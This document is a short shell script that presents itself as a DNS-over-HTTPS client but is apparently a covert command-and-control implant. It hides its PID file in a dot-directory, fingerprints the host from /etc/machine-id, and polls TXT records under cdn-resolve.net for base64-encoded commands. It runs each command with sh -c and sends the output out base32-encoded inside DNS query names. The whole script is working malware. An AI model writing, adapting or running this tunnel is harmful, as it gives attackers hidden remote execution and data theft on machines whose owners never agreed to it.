#!/bin/sh
# a "DNS over HTTPS" client: TXT answers are tasks, query names carry the output
echo $$ > /var/lib/.tidewatch/pid
R=https://127.0.0.1:8453/dns-query D=cdn-resolve.net
B=$(cat /etc/machine-id 2>/dev/null | cut -c1-8); [ -n "$B" ] || B=k7
q() { curl -sk -m 5 -H 'accept: application/dns-json' "$R?name=$1&type=$2"; }
n=0
while [ $n -lt 600 ]; do
  n=$((n+1))
  a=$(q "p$n.$B.t.$D" TXT | sed -n 's/.*"data":"\([A-Za-z0-9+\/=]*\)".*/\1/p')
  if [ -n "$a" ]; then
    c=$(printf %s "$a" | base64 -d)
    [ "$c" = x ] && break
    t=$n
    sh -c "$c" 2>&1 | base32 -w 0 | tr -d = | fold -w 60 | { i=0; while read -r s || [ -n "$s" ]; do i=$((i+1)); q "$s.$i.$t.$B.o.$D" A > /dev/null; done; }
    q "end.$t.$B.o.$D" A > /dev/null
  fi
  sleep 2
done
rm -f /var/lib/.tidewatch/pid
